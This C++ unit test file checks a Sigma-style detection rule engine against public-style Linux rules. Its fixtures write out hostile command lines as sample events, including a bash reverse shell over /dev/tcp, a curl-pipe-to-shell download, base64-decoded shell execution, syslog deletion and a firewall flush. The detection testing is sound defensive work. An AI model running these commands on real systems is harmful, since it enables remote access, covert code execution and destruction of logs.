// SPDX-License-Identifier: Apache-2.0
// Rules of the shapes the public collections have: they load as they are, and each is live or says why it is not.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <map>

#include "support.h"

namespace vedette::rules {
namespace {

using ::testing::HasSubstr;

const std::string kDirectory = VEDETTE_SOURCE_DIR "/tests/unit/rules/public_style";

// Why those that are not live are not.
const std::map<std::string, std::string> kDead = {
    {"file_event_lnx_cron_files", "no events of the category 'file_event'"},
    {"file_event_lnx_sudoers", "no events of the category 'file_event'"},
    {"file_event_lnx_wget_in_tmp", "no events of the category 'file_event'"},
    {"lnx_auditd_change_file_time", "no events of the service 'auditd'"},
    {"lnx_auditd_hidden_files", "no events of the service 'auditd'"},
    {"lnx_auditd_system_info", "no events of the service 'auditd'"},
    {"lnx_auth_pwnkit", "no events of the service 'auth'"},
    {"lnx_shell_keywords", "names no category"},
    {"lnx_sshd_suspicious_errors", "no events of the service 'sshd'"},
    {"net_connection_lnx_mining_pool", "no event has a field 'DestinationHostname'"},
    {"net_connection_lnx_ngrok", "no event has a field 'DestinationHostname'"},
    {"proc_creation_lnx_logon_id", "no event has a field 'LogonId'"},
    {"proc_creation_lnx_unsupported", "its status is 'unsupported'"},
    {"proc_creation_lnx_user_names", "the placeholder '%Administrators%' has no values"},
    {"proc_creation_macos_osascript", "no events of the product 'macos'"},
    {"proc_creation_win_lookaround", "no events of the product 'windows'"},
    {"web_path_traversal", "no events of the category 'webserver'"},
};

// What is said of live ones.
const std::map<std::string, std::string> kNotes = {
    {"proc_creation_lnx_original_name", "no event has a field 'OriginalFileName'"},
};

const Compiled& compiled() {
  static const Compiled kCompiled = [] {
    auto sources = read_rules({kDirectory});
    EXPECT_TRUE(sources);
    return compile(sources.value_or(std::vector<RuleSource>()));
  }();
  return kCompiled;
}

std::string stem(const RuleInfo& rule) { return std::filesystem::path(rule.file).stem().string(); }

TEST(PublicStyle, EveryRuleLoads) {
  for (const Diagnostic& error : compiled().errors) {
    ADD_FAILURE() << error.text();
  }
  EXPECT_TRUE(compiled().rules);
  EXPECT_GE(compiled().infos.size(), 40U);
}

TEST(PublicStyle, EachIsLiveOrSaysWhyNot) {
  for (const RuleInfo& rule : compiled().infos) {
    auto reason = kDead.find(stem(rule));
    if (reason == kDead.end()) {
      EXPECT_EQ(rule.dead, "") << rule.file;
    } else {
      EXPECT_THAT(rule.dead, HasSubstr(reason->second)) << rule.file;
    }
  }
}

TEST(PublicStyle, OnlyWhatIsNotSigmaIsNoted) {
  for (const RuleInfo& rule : compiled().infos) {
    auto note = kNotes.find(stem(rule));
    if (note != kNotes.end()) {
      EXPECT_THAT(rule.notes, ::testing::ElementsAre(note->second)) << rule.file;
    } else if (rule.dead.empty()) {
      EXPECT_EQ(rule.notes, std::vector<std::string>()) << rule.file;
    }
  }
}

struct Finding {
  const char* title;
  testing::Values values;
};

std::vector<std::string> matched(const testing::Values& values, Category category = Category::kProcessCreation) {
  return testing::titles(Matcher(compiled().rules).match(testing::record(category, values), 1));
}

TEST(PublicStyle, LiveOnesFindWhatTheyAreFor) {
  const Finding findings[] = {
      {"Base64 Decoding on the Command Line",
       {{Field::kImage, "/usr/bin/base64"}, {Field::kCommandLine, "base64 -d x"}}},
      {"Execution of Decoded Base64", {{Field::kCommandLine, "echo x | base64 -d | sh"}}},
      {"Shell Path in Base64 at Any Offset", {{Field::kCommandLine, "echo ZXhlYyAvYmluL2Jhc2ggLWk="}}},
      {"Clearing of Linux Logs", {{Field::kImage, "/bin/rm"}, {Field::kCommandLine, "rm -rf /var/log/syslog"}}},
      {"Upload of a File by Curl",
       {{Field::kImage, "/usr/bin/curl"}, {Field::kCommandLine, "curl -T x https://a.example"}}},
      {"Python Starts a Pseudo Terminal",
       {{Field::kImage, "/usr/bin/python3.11"}, {Field::kCommandLine, "python3 -c 'import pty; pty.spawn(\"sh\")'"}}},
      {"Shell Started by a Web Server", {{Field::kParentImage, "/usr/sbin/nginx"}, {Field::kImage, "/usr/bin/whoami"}}},
      {"Program Starts Itself", {{Field::kImage, "/tmp/.x"}, {Field::kParentImage, "/tmp/.X"}}},
      {"Container User outside of Its Range", {{Field::kUserId, "100000"}}},
      {"Archiver with a Password", {{Field::kImage, "/usr/bin/7z"}, {Field::kCommandLine, "7z a —psecret x"}}},
      {"Reverse Shell through a Device File", {{Field::kCommandLine, "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"}}},
      {"Two Ways to Stop a Firewall", {{Field::kImage, "/sbin/iptables"}, {Field::kCommandLine, "iptables -F"}}},
      {"Download and Execution in One Line", {{Field::kCommandLine, "curl -s https://a.example | SH"}}},
      {"Old Way to Find a Web Shell", {{Field::kParentImage, "/usr/sbin/php-fpm"}}},
  };
  for (const Finding& finding : findings) {
    EXPECT_THAT(matched(finding.values), ::testing::Contains(finding.title));
  }
}

TEST(PublicStyle, LiveOnesLeaveAloneWhatTheyExcept) {
  EXPECT_THAT(matched({{Field::kImage, "/usr/bin/curl"}, {Field::kCommandLine, "curl -T x http://localhost/"}}),
              ::testing::IsEmpty());
  EXPECT_THAT(matched({{Field::kUserId, "100000"}, {Field::kContainerId, "c"}}), ::testing::IsEmpty());
  testing::Values connection = {
      {Field::kInitiated, "true"}, {Field::kDestinationPort, "4444"}, {Field::kDestinationIp, "192.0.2.1"}};
  EXPECT_THAT(matched(connection, Category::kNetworkConnection),
              ::testing::ElementsAre("Connection to a Usual Back Connect Port"));
  connection[2].second = "172.31.0.1";
  EXPECT_THAT(matched(connection, Category::kNetworkConnection), ::testing::IsEmpty());
}

TEST(PublicStyle, PlaceholdersBringOneToLife) {
  CompileOptions options;
  options.placeholders = {{"Administrators", {"root", "adm_*"}}};
  auto sources = read_rules({kDirectory});
  ASSERT_TRUE(sources);
  Compiled with = compile(*sources, options);
  ASSERT_TRUE(with.rules);
  auto event = testing::record(Category::kProcessCreation, {{Field::kImage, "/bin/wget"}, {Field::kUser, "adm_x"}});
  EXPECT_EQ(testing::titles(Matcher(with.rules).match(event, 1)),
            std::vector<std::string>{"Privileged Account Runs a Downloader"});
}

TEST(PublicStyle, RulesWithoutIdOrLevelHaveThem) {
  for (const RuleInfo& rule : compiled().infos) {
    EXPECT_EQ(rule.id.size(), 36U) << rule.file;
    if (stem(rule) == "proc_creation_lnx_list_of_conditions") {
      EXPECT_EQ(rule.level, Level::kMedium);
    }
  }
}

}  // namespace
}  // namespace vedette::rules
